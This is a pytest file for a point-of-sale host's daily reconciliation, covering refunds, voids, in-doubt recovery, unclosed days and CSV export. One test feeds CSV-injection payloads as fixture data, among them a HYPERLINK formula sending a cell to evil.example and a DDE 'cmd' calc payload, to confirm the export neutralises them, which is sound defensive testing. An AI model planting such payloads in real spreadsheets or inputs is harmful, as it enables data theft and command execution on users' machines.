"""posterm-host's daily reconciliation against the real postermd, PT simulator, Mosquitto
and host: a clean day agrees with the terminal and the PT; a refund approved after end of
day and a sale deleted from the host's store by hand each show up as a difference."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pytest

from posterm.host import cli, reconcile
from posterm.host.store import Store
from posterm.protocol.mqtt.events import envelope, now_rfc3339, uuid7
from tests.host.test_host import TID, Host, host, rig, unacked  # noqa: F401 (fixtures)
from tests.support.broker import wait_for
from tests.support.rig import Rig


def _drained(rig: Rig) -> None:
    wait_for(lambda: unacked(rig) == 0, "every event at the host")


def _today() -> str:
    return datetime.now(UTC).date().isoformat()


@pytest.mark.slow
def test_a_clean_day_agrees_then_differences_show(rig: Rig, host: Host) -> None:
    # GIVEN a day of sales, a refund, a void and the end of day
    code, sale = rig.cli("sale", "40.00")
    assert code == 0
    assert rig.cli("sale", "15.00")[0] == 0
    code, voided = rig.cli("sale", "7.00")
    assert code == 0
    assert rig.cli("void", voided["txn_id"])[0] == 0
    assert rig.cli("refund", sale["txn_id"], "10.00", "--reason", "wrong_amount")[0] == 0
    assert rig.cli("eod")[0] == 0
    _drained(rig)
    # THEN the events, the terminal's totals and the PT's total agree
    code, rows = host.cli("reconcile", "--date", _today(), "--terminal", TID, "--json")
    assert code == 0, rows
    (day,) = rows
    assert day["ok"] and day["differences"] == []
    assert day["events"] == day["terminal_totals"]
    assert day["events"]["sales"] == "62.00" and day["events"]["sales_count"] == 3
    assert (day["events"]["voids"], day["events"]["refunds"]) == ("7.00", "10.00")
    assert day["events"]["net"] == day["pt_total"] == "45.00"

    # WHEN a refund requested before the next end of day is approved after it
    code, sale2 = rig.cli("sale", "100.00")
    code, refund = rig.cli("refund", sale2["txn_id"], "80.00", "--reason", "goods_returned")
    assert refund["state"] == "awaiting_approval"
    assert rig.cli("eod")[0] == 0
    assert rig.cli("approve", refund["txn_id"])[0] == 0
    assert rig.cli("eod")[0] == 0
    _drained(rig)
    code, rows = host.cli("reconcile", "--date", _today(), "--json")
    assert code == 1
    second = next(r for r in rows if r["batch_no"] == 2)
    (diff,) = second["differences"]
    assert diff["what"] == "refund_after_close" and diff["txns"] == [refund["txn_id"]]
    assert next(r for r in rows if r["batch_no"] == 3)["ok"]  # where it was booked, it agrees
    code, alerts = host.cli("alerts", "--open", "--json")
    (mismatch,) = [a for a in alerts if a["kind"] == "reconcile_mismatch"]
    assert mismatch["terminal"] == TID and mismatch["subject"] == "batch 2"
    assert mismatch["detail"]["differences"][0]["txns"] == [refund["txn_id"]]

    # WHEN a sale's event is deleted from the host's store by hand
    db = sqlite3.connect(host.db)
    with db:
        db.execute(
            "DELETE FROM events WHERE type = 'sale.approved' AND txn_id = ?", (sale["txn_id"],)
        )
    db.close()
    code, text = host.cli("reconcile", "--date", _today(), "--csv")
    assert code == 1
    table = list(csv.DictReader(io.StringIO(text)))
    first = [r for r in table if r["batch"] == "1"]
    sales = next(r for r in first if r["figure"] == "sales")
    assert (sales["events_count"], sales["terminal_count"], sales["difference"]) == (
        "2",
        "3",
        "DIFFERS",
    )
    missing = next(r for r in first if r["figure"] == "events_missing")
    assert sale["txn_id"] in missing["difference"]
    code, alerts = host.cli("alerts", "--open", "--json")
    assert {a["subject"] for a in alerts if a["kind"] == "reconcile_mismatch"} == {
        "batch 1",
        "batch 2",
    }


@pytest.mark.slow
def test_bad_input_is_refused(rig: Rig, host: Host) -> None:
    code, out = host.cli("reconcile", "--date", "29.11.2026", "--json")
    assert code == 65 and out["code"] == "bad_request"
    code, out = host.cli("reconcile", "--terminal", "pos-nobody", "--json")
    assert code == 65 and out["code"] == "unknown_terminal"
    code, out = host.cli("reconcile", "--date", "1999-01-01", "--json")
    assert code == 0 and out == []


@pytest.mark.parametrize(("text", "minor"), [("0.00", 0), ("-60.00", -6000), ("12.5", 1250)])
def test_amounts_of_the_events(text: str, minor: int) -> None:
    assert reconcile.minor(text, "EUR") == minor


def _env(type_: str, at: str, **data: object) -> dict[str, object]:
    return {
        "type": type_,
        "seq": int(at),
        "occurred_at": f"2026-11-29T10:00:{at}.000Z",
        "data": data,
    }


def test_a_sale_approved_then_in_doubt_then_recovered_is_booked_once() -> None:
    """GIVEN a sale whose approval was journaled (sale.approved) before the PT link dropped
    (sale.in_doubt) and that recovery found kept (sale.recovered), and one recovery found
    never charged (the PT reversed it), THEN the first counts once and the second not."""
    sale = {"kind": "sale", "currency": "EUR", "batch_no": 1}
    history = [
        _env("sale.approved", "01", txn_id="T1", amount="31.00", **sale),
        _env("sale.in_doubt", "02", txn_id="T1", amount="31.00", **sale),
        _env("sale.recovered", "03", txn_id="T1", amount="31.00", state="approved", **sale),
        _env("sale.approved", "04", txn_id="T2", amount="9.00", **sale),
        _env("sale.in_doubt", "05", txn_id="T2", amount="9.00", **sale),
        _env("sale.recovered", "06", txn_id="T2", amount="9.00", state="reversed", **sale),
    ]
    close = _env(
        "batch.closed",
        "07",
        batch_no=1,
        currency="EUR",
        sales="31.00",
        sales_count=1,
        pt_total="31.00",
    )
    row = reconcile._batch("pos-a", close, [*history, close], None)
    assert row["events"]["sales"] == "31.00" and row["events"]["sales_count"] == 1
    assert row["ok"], row["differences"]


def test_a_sale_approved_then_recovered_counts_once(tmp_path: Path) -> None:
    """GIVEN a sale approved, then in doubt (its completion lost), then recovered as charged
    (three events about one sale) WHEN the day is reconciled THEN it is one sale."""
    store = Store(f"sqlite://{tmp_path / 'host.db'}")
    sale = {"txn_id": "TSALE1", "amount": "33.00", "currency": "EUR", "batch_no": 1}
    steps = [
        ("sale.approved", sale),
        ("sale.in_doubt", {"txn_id": "TSALE1"}),
        ("sale.recovered", {**sale, "state": "approved"}),
        (
            "batch.closed",
            {
                "txn_id": "TEOD1",
                "batch_no": 1,
                "currency": "EUR",
                "sales": "33.00",
                "sales_count": 1,
                "pt_total": "33.00",
            },
        ),
    ]
    try:
        store.ingest(
            [
                {
                    "v": 1,
                    "event_id": uuid7(),
                    "terminal": TID,
                    "seq": n,
                    "type": kind,
                    "occurred_at": now_rfc3339(),
                    "data": data,
                }
                for n, (kind, data) in enumerate(steps, start=1)
            ]
        )
        (day,) = reconcile.reconcile(store, day=datetime.now(UTC).date())
        assert day["events"]["sales_count"] == 1 and day["events"]["sales"] == "33.00"
        assert day["ok"], day["differences"]
    finally:
        store.close()


def test_a_void_recovery_found_not_kept_settles_its_doubt_and_books_nothing() -> None:
    """GIVEN a void that went in doubt (the PT link dropped) and that recovery found not
    kept by the PT (void.completed with state not_charged) THEN the day has the sale, no
    void, and nothing in doubt."""
    sale = {"currency": "EUR", "batch_no": 1}
    history = [
        _env("sale.approved", "01", txn_id="T1", kind="sale", amount="40.00", **sale),
        _env(
            "void.in_doubt",
            "02",
            txn_id="V1",
            kind="void",
            amount="40.00",
            ref_txn="T1",
            state="in_doubt",
            **sale,
        ),
        _env(
            "void.completed",
            "03",
            txn_id="V1",
            kind="void",
            amount="40.00",
            ref_txn="T1",
            state="not_charged",
            outcome="not_charged",
            **sale,
        ),
    ]
    close = _env(
        "batch.closed",
        "04",
        batch_no=1,
        currency="EUR",
        sales="40.00",
        sales_count=1,
        pt_total="40.00",
    )
    row = reconcile._batch("pos-a", close, [*history, close], None)
    assert (row["events"]["voids_count"], row["events"]["sales"]) == (0, "40.00")
    assert row["ok"], row["differences"]


def test_a_refund_told_completed_then_found_not_kept_is_not_booked() -> None:
    """GIVEN a refund told completed at its commit (approved_unconfirmed) that recovery then
    found not kept by the PT (refund.failed) THEN the day books no refund."""
    data = {
        "txn_id": "R1",
        "kind": "refund",
        "amount": "12.00",
        "currency": "EUR",
        "batch_no": 1,
        "ref_txn": "T1",
    }
    history = [
        _env(
            "sale.approved",
            "01",
            txn_id="T1",
            kind="sale",
            amount="40.00",
            currency="EUR",
            batch_no=1,
        ),
        _env("refund.completed", "02", **{**data, "state": "approved_unconfirmed"}),
        _env("refund.failed", "03", **{**data, "state": "not_charged", "outcome": "not_charged"}),
    ]
    close = _env(
        "batch.closed",
        "04",
        batch_no=1,
        currency="EUR",
        sales="40.00",
        sales_count=1,
        pt_total="40.00",
    )
    row = reconcile._batch("pos-a", close, [*history, close], None)
    assert row["events"]["refunds_count"] == 0
    assert row["ok"], row["differences"]


def test_the_csv_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """GIVEN a terminal's `batch.closed` whose batch number, sale id and refund id start with
    = + - @ tab or CR (OWASP CSV injection) WHEN the day goes out as CSV THEN each such
    cell starts with a ' (text, never run), and a negative net stays a number."""
    store = Store(f"sqlite://{tmp_path / 'host.db'}")
    evil = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tTAB",
        "\rCR",
    ]
    close = {
        "txn_id": "TEOD1",
        "batch_no": evil[0],
        "currency": "EUR",
        "sales": "0.00",
        "sales_count": 0,
        "refunds": "5.00",
        "refunds_count": 1,
    }
    steps = [
        ("refund.requested", {"txn_id": evil[1], "amount": "5.00", "currency": "EUR"}),
        ("sale.in_doubt", {"txn_id": evil[2]}),
        ("sale.in_doubt", {"txn_id": evil[3]}),
        ("sale.in_doubt", {"txn_id": evil[4]}),
        ("sale.in_doubt", {"txn_id": evil[5]}),
        ("batch.closed", close),
    ]
    try:
        store.ingest(
            [
                {
                    "v": 1,
                    "event_id": uuid7(),
                    "terminal": TID,
                    "seq": n,
                    "type": kind,
                    "occurred_at": now_rfc3339(),
                    "data": data,
                }
                for n, (kind, data) in enumerate(steps, start=1)
            ]
        )
        text = reconcile.to_csv(reconcile.reconcile(store, day=datetime.now(UTC).date()))
    finally:
        store.close()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")] == []
    assert [c for c in cells if c.startswith("-") and c != "-5.00"] == []  # the net
    assert "-5.00" in cells and f"'{evil[0]}" in cells  # the batch number, as text
    detail = next(c for c in cells if "still in doubt" in c)  # the txn ids in a detail cell
    assert all(e in detail for e in evil[2:]), detail
    assert reconcile.csv_cell("-12.50") == "-12.50" and reconcile.csv_cell("12") == "12"
    assert reconcile.csv_cell("-1-1") == "'-1-1" and reconcile.csv_cell(None) == ""


def test_a_terminal_that_sold_and_never_closed_the_day_is_no_agreement(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """GIVEN pos-a with 750.00 of sales on a day and no batch.closed, pos-b with a day that
    closed and agrees, pos-c with nothing that day
    WHEN the day is reconciled for pos-a, for pos-b, for pos-c and fleet-wide
    THEN pos-a exits 1 and says it never closed, with its sales; pos-b exits 0; pos-c (no
    batch to look at) exits 1; the fleet-wide view lists pos-a as never closed and exits 1."""
    store = Store(f"sqlite://{tmp_path / 'host.db'}")
    sale = {"kind": "sale", "currency": "EUR", "batch_no": 1}
    seq: dict[str, int] = {}

    def ev(tid: str, type_: str, at: str, **data: object) -> None:
        seq[tid] = seq.get(tid, 0) + 1
        store.ingest([envelope(tid, seq[tid], type_, data, occurred_at=f"2026-11-20T{at}Z")])

    try:
        ev("pos-c", "sale.approved", "08:00:00", txn_id="C0", amount="1.00", **sale)
        ev(
            "pos-c",
            "batch.closed",
            "08:10:00",
            txn_id="CE",
            batch_no=1,
            currency="EUR",
            sales="1.00",
            sales_count=1,
            pt_total="1.00",
        )
        for n, amount in enumerate(("300.00", "250.00", "200.00")):
            ev("pos-a", "sale.approved", f"1{n}:00:00", txn_id=f"A{n}", amount=amount, **sale)
        ev("pos-b", "sale.approved", "10:00:00", txn_id="B1", amount="5.00", **sale)
        ev(
            "pos-b",
            "batch.closed",
            "18:00:00",
            txn_id="BE",
            batch_no=1,
            currency="EUR",
            sales="5.00",
            sales_count=1,
            pt_total="5.00",
        )
    finally:
        store.close()
    config = tmp_path / "host.toml"
    config.write_text(
        f'[host]\nid = "hq"\n[mqtt]\nurl = "mqtt://127.0.0.1:1"\n'
        f'[store]\nurl = "sqlite://{tmp_path / "host.db"}"\n'
    )

    def run(*args: str) -> tuple[int, str]:
        code = cli.main(["--config", str(config), "reconcile", "--date", "2026-11-20", *args])
        return code, capsys.readouterr().out

    code, out = run("--terminal", "pos-a", "--json")
    (row,) = json.loads(out)
    assert code == 1 and not row["ok"] and row["batch_no"] is None
    assert (row["events"]["sales"], row["events"]["sales_count"]) == ("750.00", 3)
    (diff,) = row["differences"]
    assert diff["what"] == "never_closed" and diff["txns"] == ["A0", "A1", "A2"]
    code, out = run("--terminal", "pos-a")
    assert code == 1 and "pos-a NEVER CLOSED: 3 sales (750.00)" in out, out
    assert run("--terminal", "pos-b")[0] == 0
    code, out = run("--terminal", "pos-c", "--date", "2026-11-21")
    assert code == 1 and "no batch was closed on that day" in out
    code, out = run("--json")
    assert code == 1
    assert [(r["terminal"], r["batch_no"], r["ok"]) for r in json.loads(out)] == [
        ("pos-a", None, False),
        ("pos-b", 1, True),
        ("pos-c", 1, True),
    ]
    code, out = run("--csv")
    assert code == 1 and "never_closed" in out
